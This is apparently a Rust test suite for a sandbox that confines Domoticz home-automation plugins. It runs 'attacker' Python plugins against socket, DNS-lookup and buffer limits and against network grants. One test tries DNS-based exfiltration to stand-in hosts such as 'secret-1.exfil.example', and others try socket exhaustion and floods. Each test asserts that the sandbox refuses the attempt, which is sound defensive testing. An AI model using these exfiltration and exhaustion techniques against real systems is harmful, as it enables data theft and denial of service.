//! Sockets of a plugin's own: their number, bytes that wait in them, peers that they reach.

use std::io::Write as _;
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::time::Duration;

use crate::attack::{Attack, By, assert_told};
use crate::scene::{FLAT, Scene, assert_failures};
use crate::support::PluginText;
use crate::support::ports::free_port;

/// Python that reports refusals and nothing else.
const TRY: &str = "
import errno, select, socket
def refused(call, *arguments):
    try:
        call(*arguments)
    except PermissionError as e:
        Domoticz.Log('refused: %s' % e)
    except OSError as e:
        Domoticz.Log('failed: %s %s' % (errno.errorcode.get(e.errno), e))
    else:
        Domoticz.Log('it went through')
def tcp(): return socket.socket()
def udp(): return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
";

fn attack(source: &str) -> Attack {
    Attack::new(&format!("{TRY}{source}"))
}

trips! {
    sockets_beyond_the_limit_are_refused: "sockets" => attack("
kept = []
def attack():
    try:
        for n in range(100): kept.append(tcp())
    except OSError as e:
        assert e.errno == errno.EMFILE, e
    Domoticz.Log('%d made.' % len(kept))
    kept.pop().close()
    kept.append(tcp())
    refused(socket.socketpair)
    refused(kept[0].dup)
").limits("sockets = 10").says(&["10 made.", "failed: EMFILE"]);

    /// Those that do not fit stay in the system's queue; the others are served.
    clients_beyond_the_limit_are_not_accepted: "sockets" => By(async |limit: &'static str| {
        let port = free_port();
        let source = format!("{TRY}
kept = []
def onStart():
    # Outlives the callback: a client may still be on its way.
    global server
    server = socket.create_server(('', {port}))
    Domoticz.Log('up')
    try:
        while True: kept.append(server.accept()[0])
    except OSError as e:
        Domoticz.Log('%d accepted, then %s.' % (len(kept), errno.errorcode[e.errno]))
    kept[0].sendall(b'served')
    kept[1].close()
    kept[1] = server.accept()[0]
    Domoticz.Log('one more.')
");
        let config = format!("limits = {{ sockets = 4 }}\ngrants = {{ listen = [{port}] }}");
        let mut scene = Scene::new().await;
        let attacker = scene.attack(&source, &config).await;
        scene.said("up").await;
        let clients: Vec<_> = (0..20).map(|_| TcpStream::connect(("127.0.0.1", port)).unwrap()).collect();
        let line = scene.bench.line("limit sockets: ").await;
        assert_told(limit, &attacker.spec.limits, &line);
        scene.said("3 accepted, then EMFILE.").await;
        scene.said("one more.").await;
        assert_eq!(clients.len(), 20);
        assert_failures(&attacker, 0);
        scene.finish(FLAT).await;
    });

    /// An entry costs the hub, be it the same socket again and again.
    a_poll_of_too_many_is_refused: "sockets" => attack("
def attack():
    s = udp()
    poll = select.poll()
    for n in range(20000): poll.register(10000 + n, select.POLLIN)
    refused(poll.poll, 0)
").says(&["failed: EINVAL"]);

    a_larger_buffer_than_allowed_is_cut: "socket-buffer" => attack("
def attack():
    s = tcp()
    for option in socket.SO_RCVBUF, socket.SO_SNDBUF:
        s.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
        Domoticz.Log('buffer %s.' % (s.getsockopt(socket.SOL_SOCKET, option) <= 65536))
").limits("socket-buffer = 65536").says(&["buffer True."]);

    open_files_of_the_hub_are_bounded: "descriptors" => attack("
kept = []
def attack():
    try:
        for n in range(100): kept.append(tcp())
    except OSError as e:
        assert e.errno == errno.EMFILE, e
    Domoticz.Log('some made %r.' % (10 < len(kept) <= 20))
    for s in kept: s.close()
    kept.clear()
    kept.append(tcp())
").limits("descriptors = 20").says(&["some made True."]);

    /// They are those of the instance: look-ups of its `Connection`s and pings count as well.
    look_ups_of_connections_and_pings_count: "lookups" => attack("
import cordon_icmp
made = []
def attack():
    for n in range(2):
        try: cordon_icmp.ping('nowhere.invalid', 0.2)
        except OSError: pass
    for n in range(2):
        made.append(Domoticz.Connection(Name='c', Transport='TCP/IP', Address='nowhere.invalid', Port='80'))
        made[-1].Connect()
def onConnect(Connection, Status, Description): pass
").limits("lookups = 3").config("grants = { network = [\"nowhere.invalid:80\"], icmp = [\"nowhere.invalid\"] }");

    look_ups_beyond_the_limit_are_refused: "lookups" => attack("
def attack():
    for n in range(3):
        try:
            socket.getaddrinfo('nowhere.invalid', 80)
        except socket.gaierror as e:
            last = e
    assert last.errno == socket.EAI_AGAIN, last
").limits("lookups = 2").config("grants = { network = [\"nowhere.invalid:80\"] }");
}

/// A name carries whatever the plugin likes to whoever answers for it.
#[tokio::test(flavor = "multi_thread")]
async fn a_name_is_looked_up_by_no_way_without_a_grant() {
    let source = "
import cordon_icmp
made = []
def connection(how, **target):
    made.append(Domoticz.Connection(Name=how, **target))
    return made[-1]
def onStart():
    connection('tcp', Transport='TCP/IP', Address='secret-1.exfil.example', Port='80').Connect()
    connection('tls', Transport='TLS/IP', Address='secret-2.exfil.example', Port='443').Connect()
    connection('icmp', Transport='ICMP/IP', Protocol='ICMP', Address='secret-3.exfil.example').Listen()
    refused(cordon_icmp.ping, 'secret-4.exfil.example', 0.2)
    refused(socket.getaddrinfo, 'secret-5.exfil.example', 80)
def onConnect(Connection, Status, Description):
    Domoticz.Log('%s %s.' % (Connection.Name, Description))
    if len(made) == 3 and Connection.Name == 'icmp': Domoticz.Log('over')
";
    let mut says = vec![
        "tcp Permission denied.".to_owned(),
        "tls Permission denied.".to_owned(),
    ];
    let line = |n: u32, grant: &str| {
        format!("resolving secret-{n}.exfil.example; to allow it, add `{grant}`")
    };
    let mut scene = Scene::new().await;
    let attacker = scene
        .attack(&format!("{TRY}{source}"), "limits = { lookups = 1 }")
        .await;
    says.push("icmp Permission denied.".to_owned());
    for text in says {
        scene.said(&text).await;
    }
    for (n, grant) in [
        (1, "network = [\"secret-1.exfil.example:80\"]"),
        (2, "network = [\"secret-2.exfil.example:443\"]"),
        (3, "icmp = [\"secret-3.exfil.example\"]"),
        (4, "icmp = [\"secret-4.exfil.example\"]"),
        (5, "network = [\"secret-5.exfil.example:80\"]"),
    ] {
        scene.bench.line(&line(n, grant)).await;
    }
    // Nobody was asked, so nothing was counted.
    assert!(scene.bench.seen_line("limit lookups").is_none());
    assert_failures(&attacker, 0);
    scene.finish(FLAT).await;
}

/// Runs `onStart` of the attacker until it has said these lines.
async fn scene(source: &str, config: &str, says: &[String]) {
    let mut scene = Scene::new().await;
    let attacker = scene.attack(&format!("{TRY}{source}"), config).await;
    for line in says {
        scene.said(line).await;
    }
    scene.said("over").await;
    assert!(
        scene.bench.seen_line("it went through").is_none(),
        "{}",
        scene.bench.transcript()
    );
    assert_failures(&attacker, 0);
    scene.finish(FLAT).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_target_without_a_grant_is_refused_and_never_reached() {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let datagrams = UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    let udp = datagrams.local_addr().unwrap().port();
    let source = format!(
        "
def onStart():
    for host in '127.0.0.1', '0.0.0.0', 'localhost', '':
        refused(tcp().connect, (host, {port}))
    six = socket.socket(socket.AF_INET6)
    for host in '::ffff:127.0.0.1', '::1', '::':
        refused(six.connect, (host, {port}))
    s = udp()
    refused(s.sendto, b'x', ('127.0.0.1', {udp}))
    # Kept as a target, never sent to: for the address of this end.
    s.connect(('127.0.0.1', {udp}))
    assert s.getsockname()[1]
    refused(s.send, b'x')
    refused(s.sendall, b'x')
    refused(socket.gethostbyname, 'secret.example.com')
    for family in socket.AF_INET, socket.AF_INET6:
        refused(socket.socket, family, socket.SOCK_RAW)
    Domoticz.Log('over')
"
    );
    let says = [
        format!("refused: [Errno 13] denied: connection to 127.0.0.1:{port}, which is this machine; to allow it, add `network = [\"127.0.0.1:{port}\"]`"),
        format!("refused: [Errno 13] denied: connection to 127.0.0.1:{udp}"),
        "refused: [Errno 13] denied: resolving secret.example.com; to allow it, add `network = [\"secret.example.com:*\"]`".to_owned(),
        // The hub's own line.
        "denied: connection to ".to_owned(),
    ];
    scene(&source, "", &says).await;
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "somebody connected");
    datagrams.set_nonblocking(true).unwrap();
    assert!(datagrams.recv(&mut [0; 9]).is_err(), "something was sent");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_port_without_a_grant_is_not_listened_on() {
    let port = free_port();
    let source = format!(
        "
def onStart():
    for make in tcp, udp:
        refused(make().bind, ('', {port}))
        refused(make().bind, ('127.0.0.1', {port}))
    s = tcp()
    s.bind(('', 0))
    refused(s.listen)
    refused(tcp().listen)
    Domoticz.Log('over')
"
    );
    let says = [
        format!("refused: [Errno 13] denied: listening on port {port}; to allow it, add `listen = [{port}]`"),
        "refused: [Errno 13] denied: listening on any free port (port 0); to allow it, add `listen = [0]`".to_owned(),
    ];
    scene(&source, "", &says).await;
}

/// Sockets without a grant reach nobody: strangers are not let in.
#[tokio::test(flavor = "multi_thread")]
async fn an_own_loopback_listener_and_an_ephemeral_port_hear_no_stranger() {
    let source = "
import threading, time
def onStart():
    server = tcp()
    server.bind(('127.0.0.1', 0))
    server.listen()
    s = udp()
    s.bind(('', 0))
    s.settimeout(20)
    server.settimeout(20)
    open('/data/wait', 'w').close()
    Domoticz.Log('ports %d %d.' % (server.getsockname()[1], s.getsockname()[1]))
    import os
    while os.path.exists('/data/wait'): time.sleep(0.05)
    # Own ones get through, after the strangers.
    client = tcp()
    client.connect(server.getsockname())
    accepted, address = server.accept()
    Domoticz.Log('own client %s.' % (address == client.getsockname()))
    # Open until the datagram is there: that is what makes it an own one.
    sender = udp()
    sender.sendto(b'own', ('127.0.0.1', s.getsockname()[1]))
    Domoticz.Log('own datagram %s.' % s.recv(99))
    Domoticz.Log('over')
";
    let mut scene = Scene::new().await;
    let attacker = scene.attack(&format!("{TRY}{source}"), "").await;
    let line = scene.said("ports ").await;
    let mut ports = line
        .split(['.', ' '])
        .filter_map(|word| word.parse::<u16>().ok());
    let (tcp, udp) = (ports.next().unwrap(), ports.next().unwrap());
    let strangers: Vec<_> = (0..5)
        .map(|_| {
            let mut stranger = TcpStream::connect(("127.0.0.1", tcp)).unwrap();
            stranger.write_all(b"command").unwrap();
            stranger
        })
        .collect();
    let stranger = UdpSocket::bind(("127.0.0.1", 0)).unwrap();
    for _ in 0..5 {
        stranger.send_to(b"command", ("127.0.0.1", udp)).unwrap();
    }
    let data = scene.bench.data_folder();
    let wait = find(&data, "wait").expect("the attacker waits");
    std::fs::remove_file(wait).unwrap();
    scene.said("own client True.").await;
    scene.said("own datagram b'own'.").await;
    scene.said("over").await;
    assert_eq!(strangers.len(), 5);
    assert_failures(&attacker, 0);
    scene.finish(FLAT).await;
}

fn find(folder: &std::path::Path, name: &str) -> Option<std::path::PathBuf> {
    std::fs::read_dir(folder).ok()?.flatten().find_map(|entry| {
        let path = entry.path();
        if path.is_dir() {
            find(&path, name)
        } else {
            (entry.file_name() == name).then_some(path)
        }
    })
}

/// The system's buffer is the only one: a peer that floods is stopped by TCP.
#[tokio::test(flavor = "multi_thread")]
async fn a_peer_that_floods_an_idle_socket_is_stopped() {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let source = format!(
        "{TRY}
import time
def onStart():
    global s
    s = tcp()
    s.connect(('127.0.0.1', {port}))
    Domoticz.Log('up')
    Domoticz.Heartbeat(1)
def onHeartbeat():
    Domoticz.Log('ready %d.' % len(select.select([s], [], [], 0)[0]))
"
    );
    let config = format!("grants = {{ network = [\"127.0.0.1:{port}\"] }}");
    let mut scene = Scene::new().await;
    let attacker = scene.attack(&source, &config).await;
    let mut peer = listener.accept().unwrap().0;
    peer.set_write_timeout(Some(Duration::from_secs(2)))
        .unwrap();
    let mut written = 0;
    while let Ok(count @ 1..) = peer.write(&[0; 65_536]) {
        written += count;
        assert!(written < 16 << 20, "{written} bytes were taken");
    }
    scene.said("ready 1.").await;
    assert_failures(&attacker, 0);
    scene.finish(FLAT).await;
}

/// A name that is granted does not stand for this machine, nor for the hub.
#[tokio::test(flavor = "multi_thread")]
async fn a_granted_name_that_leads_to_this_machine_is_refused() {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    // `cordon` is the name of the instance's own machine.
    let config = format!("grants = {{ network = [\"cordon:{port}\", \"*:{port}\"] }}");
    let source = format!(
        "
def onStart():
    assert socket.gethostbyname('cordon') == '127.0.0.1'
    refused(tcp().connect, ('cordon', {port}))
    refused(tcp().connect, ('127.0.0.1', {port}))
    Domoticz.Log('over')
"
    );
    let says = [format!(
        "refused: [Errno 13] denied: connection to 127.0.0.1:{port} (cordon), which is this machine"
    )];
    scene(&source, &config, &says).await;
    listener.set_nonblocking(true).unwrap();
    assert!(listener.accept().is_err(), "somebody connected");
}

/// A socket of one family says nothing about the port of the other, and what was an own
/// socket's port may be another's by now.
#[tokio::test(flavor = "multi_thread")]
async fn a_port_is_own_only_in_its_family_and_as_long_as_it_is_open() {
    let source = "
def udp6(only):
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, only)
    s.bind(('::', 0))
    return s, s.getsockname()[1]
def onStart():
    four = udp()
    four.bind(('0.0.0.0', 0))
    port = four.getsockname()[1]
    udp().sendto(b'own', ('127.0.0.1', port))
    refused(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto, b'x', ('::1', port))
    six, port = udp6(1)
    refused(udp().sendto, b'x', ('127.0.0.1', port))
    both, port = udp6(0)
    udp().sendto(b'own', ('127.0.0.1', port))
    sender = udp()
    sender.connect(four.getsockname())
    sender.send(b'own')
    four.close()
    refused(sender.send, b'x')
    Domoticz.Log('over')
";
    let says = [
        "refused: [Errno 13] denied: connection to ".to_owned(),
        "refused: [Errno 13] denied: connection to 127.0.0.1:".to_owned(),
        "refused: [Errno 13] denied: connection to ".to_owned(),
    ];
    scene(source, "", &says).await;
}

/// Bytes that the system holds for the machine's TCP sockets.
fn tcp_memory() -> u64 {
    let text = std::fs::read_to_string("/proc/net/sockstat").unwrap();
    let line = text.lines().find(|line| line.starts_with("TCP:")).unwrap();
    let pages = line.split(' ').next_back().unwrap();
    pages.parse::<u64>().unwrap() * 4096
}

/// Clients that are closed again leave nothing in the queue of a listener that never accepts.
#[tokio::test(flavor = "multi_thread")]
async fn clients_that_nobody_accepts_leave_nothing_behind() {
    let source = "
kept = []
def onStart():
    for _ in range(2):
        server = tcp()
        server.bind(('127.0.0.1', 0))
        server.listen(128)
        kept.append(server)
        for _ in range(100):
            client = tcp()
            client.setblocking(False)
            client.connect_ex(server.getsockname())
            try:
                while True: client.send(bytes(65536))
            except OSError: pass
            client.close()
    Domoticz.Log('held')
    # The first ones were few enough to be served all the same.
    kept[0].settimeout(10)
    Domoticz.Log('served %d.' % len(kept[0].accept()[0].recv(9)))
    Domoticz.Log('over')
";
    let before = tcp_memory();
    let mut scene = Scene::new().await;
    let attacker = scene.attack(&format!("{TRY}{source}"), "").await;
    scene.said("held").await;
    let held = tcp_memory().saturating_sub(before);
    assert!(held < 16 << 20, "{held} bytes");
    scene.said("served 9.").await;
    scene.said("over").await;
    assert_failures(&attacker, 0);
    scene.finish(FLAT).await;
}

/// The system makes whoever closes such a socket wait, and a thread of the hub's closes it
/// that serves the neighbours as well.
#[tokio::test(flavor = "multi_thread")]
async fn sockets_that_linger_hold_up_nobody() {
    let source = "
import struct, threading, time
kept = []
def client():
    server = tcp()
    server.bind(('127.0.0.1', 0))
    server.listen(1)
    client = socket.create_connection(server.getsockname())
    kept.append((server, server.accept()[0]))
    client.setblocking(False)
    try:
        while True: client.send(bytes(65536))
    except OSError: pass
    client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 10))
    return client
def onStart():
    for _ in range(3):
        lingers = client()
        begun = time.time()
        lingers.close()
        Domoticz.Log('closed in %d s.' % (time.time() - begun))
    # One that ends with its plugin.
    kept.append(client())
    Domoticz.Log('ends')
";
    let source = format!("{TRY}{source}");
    let mut scene = Scene::new().await;
    let second = PluginText {
        name: "Second",
        source: &source,
        config: "",
    };
    scene.attack(&source, "").await;
    scene.bench.start(second).await;
    for _ in 0..3 {
        scene.said("closed in 0 s.").await;
    }
    scene.said("ends").await;
    scene.beat().await;
    scene.finish(FLAT).await;
}
